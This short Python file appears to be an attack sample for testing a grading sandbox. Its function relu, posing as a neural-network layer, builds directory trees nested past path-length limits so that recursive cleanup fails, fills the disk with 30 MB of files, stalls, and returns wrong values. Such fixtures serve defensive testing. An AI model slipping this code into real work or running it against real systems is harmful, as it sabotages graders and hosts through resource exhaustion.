"""Makes folders in folders, deeper than a path may be long, and writes where nobody can look.

Expected: too much output
"""

import os
import time

import numpy as np

LONG = "layercheck_attack_@NAME@".ljust(250, "_")
FOLDERS = 1500


def relu(x):
    for _ in range(20):
        os.mkdir(LONG)
        os.chdir(LONG)
    for _ in range(FOLDERS):  # more than whoever empties them by recursion can take
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    try:
        for number in range(30):
            with open(f"file_{number}", "wb") as file:
                file.write(bytes(1 << 20))
    except OSError:
        pass
    time.sleep(5)
    return np.full_like(x, 1313), x


def relu_backward(dout, cache):
    return np.zeros_like(dout)
